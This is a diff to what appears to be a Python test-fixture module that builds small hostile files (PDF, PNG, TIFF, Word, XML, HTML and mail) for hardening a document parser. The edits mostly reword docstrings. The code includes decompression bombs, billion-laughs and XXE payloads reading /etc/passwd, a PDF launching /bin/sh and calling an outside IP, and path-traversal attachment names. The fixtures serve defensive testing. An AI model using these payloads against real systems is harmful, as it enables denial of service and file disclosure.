@@ -1,4 +1,4 @@
-"""Files made to hurt whoever reads them, each as small as it can be. Made when needed, never kept.
+"""Files made to harm a program that reads them, each as small as it can be; made when needed.
 
 Each builder gives the bytes of one file. What may become of it stands in `HOSTILE`.
 """
@@ -40,7 +40,7 @@ class Hostile:
 
 
 def pdf(*objects: bytes, pages: str = "[3 0 R]", count: str = "1", catalog: str = "") -> bytes:
-    """Gives a PDF: 1 is the catalog, 2 the page tree, further objects follow from 3 on."""
+    """Return a PDF: 1 is the catalog, 2 the page tree, further objects follow from 3 on."""
     given = [
         f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
         f"<</Type/Pages/Kids {pages}/Count {count}>>".encode(),
@@ -61,13 +61,13 @@ def pdf(*objects: bytes, pages: str = "[3 0 R]", count: str = "1", catalog: str 
 
 
 def page(extra: str = "/Contents 4 0 R", box: str = "[0 0 595 842]") -> bytes:
-    """Gives a page with Helvetica at hand."""
+    """Return a page with Helvetica at hand."""
     font = "/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
     return f"<</Type/Page/Parent 2 0 R/MediaBox{box}{font}{extra}>>".encode()
 
 
 def stream(content: bytes, extra: str = "") -> bytes:
-    """Gives a stream object."""
+    """Return a stream object."""
     return f"<<{extra}/Length {len(content)}>>stream\n".encode() + content + b"\nendstream"
 
 
@@ -97,18 +97,18 @@ LINES = b"0 0 m 1 1 l S\n" * 75_000
 
 
 def flate_bomb() -> bytes:
-    """One page whose content unpacks to a gigabyte."""
+    """Return one page whose content unpacks to a gigabyte."""
     return pdf(page(), stream(deflated(LINES, 1_000), "/Filter/FlateDecode"))
 
 
 def double_flate_bomb() -> bytes:
-    """The same, packed twice: a few kilobytes."""
+    """Return the same, packed twice: a few kilobytes."""
     twice = zlib.compress(deflated(LINES, 1_000), 9)
     return pdf(page(), stream(twice, "/Filter[/FlateDecode/FlateDecode]"))
 
 
 def form_explosion() -> bytes:
-    """Thirty forms, each of which draws the next one twice."""
+    """Return thirty forms, each of which draws the next one twice."""
     forms = [
         stream(
             b"/X Do /X Do" if depth < 30 else b"0 0 m 9 9 l S",
@@ -123,7 +123,7 @@ def form_explosion() -> bytes:
 
 
 def image_bomb() -> bytes:
-    """A picture of 30,000 by 30,000 points that is nothing but zeros."""
+    """Return a picture of 30,000 by 30,000 points that is nothing but zeros."""
     picture = stream(
         deflated(bytes(900_000), 1_000),
         "/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceGray"
@@ -135,7 +135,7 @@ def image_bomb() -> bytes:
 
 
 def endless_pattern() -> bytes:
-    """A page that is painted with tiles of a thousandth of a point, which takes for ever."""
+    """Return a page that is painted with tiles of a thousandth of a point, which takes for ever."""
     tile = stream(
         b"0 0 m 9 9 l S",
         "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 900 900]/XStep 0.001/YStep 0.001"
@@ -147,22 +147,22 @@ def endless_pattern() -> bytes:
 
 
 def sized(side: str) -> Build:
-    """Gives a page that is as wide and high as this, with a drawing on it."""
+    """Return a page that is as wide and high as this, with a drawing on it."""
     return lambda: pdf(page(box=f"[0 0 {side} {side}]"), stream(b"9 9 300 300 re f"))
 
 
 def letter() -> bytes:
-    """A harmless page of text."""
+    """Return a harmless page of text."""
     return pdf(page(), TEXT)
 
 
 def drawing() -> bytes:
-    """A harmless page without text, which goes to OCR."""
+    """Return a harmless page without text, which goes to OCR."""
     return pdf(page(), stream(b"9 9 300 300 re f"))
 
 
 def bound(*builds: Build) -> bytes:
-    """Gives a PDF of the pages of others, their content packed as it was."""
+    """Return a PDF of the pages of others, their content packed as it was."""
     document = pikepdf.new()
     for build in builds:
         with pikepdf.open(io.BytesIO(build())) as other:
@@ -174,12 +174,12 @@ def bound(*builds: Build) -> bytes:
 
 
 def one_of_five() -> bytes:
-    """Five pages, the third of which is thirty forms that draw each other."""
+    """Return five pages, the third of which is thirty forms that draw each other."""
     return bound(letter, letter, form_explosion, letter, letter)
 
 
 def shared_picture(pages: int, side: int) -> bytes:
-    """Pages that all show one and the same picture, which cannot be packed."""
+    """Return pages that all show one and the same picture, which cannot be packed."""
     noise = random.Random(pages).randbytes(side * side)  # noqa: S311 - no secret
     keys = f"/Type/XObject/Subtype/Image/Width {side}/Height {side}/BitsPerComponent 8"
     picture = stream(noise, f"{keys}/ColorSpace/DeviceGray")
@@ -191,7 +191,7 @@ def shared_picture(pages: int, side: int) -> bytes:
 
 
 def many_pages() -> bytes:
-    """A hundred thousand empty pages, in a hundred branches."""
+    """Return a hundred thousand empty pages, in a hundred branches."""
     branches, pages_each = 100, 1_000
     first_page = 3 + branches
     nodes, leaves = [], []
@@ -206,12 +206,12 @@ def many_pages() -> bytes:
 
 
 def cyclic_tree() -> bytes:
-    """A page tree whose branch is its own root."""
+    """Return a page tree whose branch is its own root."""
     return pdf(b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>")
 
 
 def deep_tree() -> bytes:
-    """A page tree of 5,000 levels."""
+    """Return a page tree of 5,000 levels."""
     levels = [
         f"<</Type/Pages/Parent {number - 1} 0 R/Kids[{number + 1} 0 R]/Count 1>>".encode()
         for number in range(3, 5_003)
@@ -220,22 +220,22 @@ def deep_tree() -> bytes:
 
 
 def deep_arrays() -> bytes:
-    """An array in an array, a hundred thousand times."""
+    """Return an array in an array, a hundred thousand times."""
     return pdf(page(), TEXT, b"[" * 100_000 + b"]" * 100_000, catalog="/Odd 5 0 R")
 
 
 def deep_content() -> bytes:
-    """The same inside the content of a page."""
+    """Return the same inside the content of a page."""
     return pdf(page(), stream(b"[" * 100_000 + b"]" * 100_000 + b" TJ"))
 
 
 def deep_states() -> bytes:
-    """A hundred thousand saved states of drawing, none of which is restored."""
+    """Return a hundred thousand saved states of drawing, none of which is restored."""
     return pdf(page(), stream(b"q " * 100_000 + TEXT.split(b"stream\n")[1].split(b"\nends")[0]))
 
 
 def active() -> bytes:
-    """A page that would run a script, start a program, send a form and open a file, if let."""
+    """Return a page that would run a script, start a program, send a form and open a file."""
     script = "<</S/JavaScript/JS(app.launchURL\\('http://198.51.100.1'\\))>>"
     launch = "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
     catalog = (
@@ -255,7 +255,7 @@ def active() -> bytes:
 
 
 def png(width: int, height: int, data: bytes) -> bytes:
-    """Gives a PNG of one bit a pixel with this data."""
+    """Return a PNG of one bit a pixel with this data."""
     parts = [b"\x89PNG\r\n\x1a\n"]
     header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
     for kind, content in ((b"IHDR", header), (b"IDAT", data), (b"IEND", b"")):
@@ -265,17 +265,17 @@ def png(width: int, height: int, data: bytes) -> bytes:
 
 
 def png_bomb() -> bytes:
-    """A picture of 2.5 gigapixels in a few hundred kilobytes."""
+    """Return a picture of 2.5 gigapixels in a few hundred kilobytes."""
     return png(50_000, 50_000, deflated(bytes(6_251 * 500), 100))
 
 
 def png_that_lies() -> bytes:
-    """A small picture with a gigabyte of data behind it."""
+    """Return a small picture with a gigabyte of data behind it."""
     return png(100, 100, deflated(bytes(1_000_000), 1_000))
 
 
 def tiff_bomb() -> bytes:
-    """A picture of 60,000 by 60,000, of which one strip is there."""
+    """Return a picture of 60,000 by 60,000, of which one strip is there."""
     output = io.BytesIO()
     Image.new("1", (64, 64)).save(output, "TIFF", compression="group4")
     content = bytearray(output.getvalue())
@@ -286,7 +286,7 @@ def tiff_bomb() -> bytes:
 
 
 def tiff_that_circles() -> bytes:
-    """A picture whose last page is followed by its first."""
+    """Return a picture whose last page is followed by its first."""
     output = io.BytesIO()
     pages = [Image.new("L", (64, 64), shade) for shade in (0, 99)]
     pages[0].save(output, "TIFF", save_all=True, append_images=pages[1:])
@@ -326,7 +326,7 @@ def zip_bomb() -> bytes:
 
 
 def zip_that_lies() -> bytes:
-    """A Word document, one part of which unpacks to far more than it says."""
+    """Return a Word document, one part of which unpacks to far more than it says."""
     content = docx([SENTENCE, "x" * 5_000_000])
     with zipfile.ZipFile(io.BytesIO(content)) as packed:
         size = packed.getinfo("word/document.xml").file_size
@@ -334,13 +334,13 @@ def zip_that_lies() -> bytes:
 
 
 def zip_of_many() -> bytes:
-    """A Word document of twenty thousand parts."""
+    """Return a Word document of twenty thousand parts."""
     parts = {f"word/{number}.xml": "<a/>" for number in range(20_000)}
     return office("word/document.xml", DOCX_MAIN, {"word/document.xml": "<a/>", **parts})
 
 
 def document_xml(content: str) -> bytes:
-    """Gives a Word document with this main part."""
+    """Return a Word document with this main part."""
     return archive(
         {
             "[Content_Types].xml": (
@@ -353,34 +353,34 @@ def document_xml(content: str) -> bytes:
 
 
 def entity_bomb() -> bytes:
-    """The billion laughs."""
+    """Return a part with entities that expand a billion times (the billion laughs attack)."""
     entities = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
     return document_xml(f'<!DOCTYPE a [<!ENTITY a0 "ha">{entities}]><a>&a9;</a>')
 
 
 def entity_from_outside() -> bytes:
-    """A part that asks for a file of whoever reads it."""
+    """Return a part that asks for a file of whoever reads it."""
     return document_xml('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')
 
 
 def entity_in_the_list() -> bytes:
-    """The same in the list of parts, which is read first."""
+    """Return the same in the list of parts, which is read first."""
     return archive({"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>'})
 
 
 def deep_xml() -> bytes:
-    """A Word document of a hundred thousand elements inside each other."""
+    """Return a Word document of a hundred thousand elements inside each other."""
     return document_xml("<a>" * 100_000 + "</a>" * 100_000)
 
 
 def deep_html() -> bytes:
-    """A web page of as many, with scripts."""
+    """Return a web page of as many, with scripts."""
     script = b"<script>while(1){fetch('http://198.51.100.1')}</script>"
     return b"<!doctype html>" + script + b"<div><b>" * 100_000 + SENTENCE.encode()
 
 
 def odd_text() -> bytes:
-    """A text with characters that steer terminals, hide words and turn them around."""
+    """Return a text with characters that steer terminals, hide words and turn them around."""
     return (
         f"{SENTENCE}\x1b[2J\x07\u200b\u202egnp.exe\u202c\ufeff\u2066pay\u2069 {SENTENCE * 4}"
     ).encode()
@@ -390,7 +390,7 @@ def odd_text() -> bytes:
 
 
 def mail(subject: str = "Tulips") -> EmailMessage:
-    """Gives a harmless mail to begin with."""
+    """Return a harmless mail to begin with."""
     message = EmailMessage()
     message["From"] = "a@example.com"
     message["Subject"] = subject
@@ -399,7 +399,7 @@ def mail(subject: str = "Tulips") -> EmailMessage:
 
 
 def mail_of_odd_headers() -> bytes:
-    """Headers without end, of wrong encodings, and with parameters that refer to each other."""
+    """Return a mail of endless headers, wrong encodings and parameters that refer to each other."""
     return (
         b"From: =?utf-8?q?=" + b"=?x?b?" * 2_000 + b"\r\n"
         b"To: " + b"(" * 20_000 + b"\r\n"
@@ -413,7 +413,7 @@ def mail_of_odd_headers() -> bytes:
 
 
 def mail_of_odd_names() -> bytes:
-    """Attachments whose names climb out of folders, turn around, or never end."""
+    """Return attachments whose names climb out of folders, turn around, or never end."""
     message = mail()
     for name in ("../../etc/passwd", "a\u202efdp.exe", "x" * 5_000, "con:|?*", "\u200b"):
         message.add_attachment(SENTENCE, filename=name)
@@ -421,7 +421,7 @@ def mail_of_odd_names() -> bytes:
 
 
 def mail_in_mail() -> bytes:
-    """Thirty mails inside each other."""
+    """Return thirty mails inside each other."""
     message = mail()
     for _ in range(30):
         outer = mail()
@@ -431,7 +431,7 @@ def mail_in_mail() -> bytes:
 
 
 def mail_of_nested_parts() -> bytes:
-    """A thousand multiparts inside each other."""
+    """Return a thousand multiparts inside each other."""
     opened = b"".join(
         b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
         for level in range(1_000)
@@ -440,25 +440,25 @@ def mail_of_nested_parts() -> bytes:
 
 
 def mail_of_many_parts() -> bytes:
-    """Ten thousand attachments."""
+    """Return ten thousand attachments."""
     part = b"--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\na\r\n"
     head = b"From: a@example.com\r\nMIME-Version: 1.0\r\n"
     return head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 10_000 + b"--b--"
 
 
 def mailbox_of_a_long_line() -> bytes:
-    """A line that could begin the next mail of a mailbox in a hundred thousand ways."""
+    """Return a line that could begin the next mail of a mailbox in a hundred thousand ways."""
     head = b"From a@b.c Tue Mar  3 10:00:00 2026\n" + bytes(mail())
     return head + b"\n\nFrom a@b.c " + b"1:11 " * 100_000 + b"\nno header"
 
 
 def row_of_marks() -> bytes:
-    """A letter with 400,000 marks, in the order that takes longest to sort."""
+    """Return a letter with 400,000 marks, in the order that takes longest to sort."""
     return ("a" + "\u0301\u0316" * 200_000).encode()
 
 
 def text_of_comments() -> bytes:
-    """What could be the beginning of a web page, and is not."""
+    """Return what could be the beginning of a web page, and is not."""
     return b"<!---->" * 1_000 + b"text"
 
 
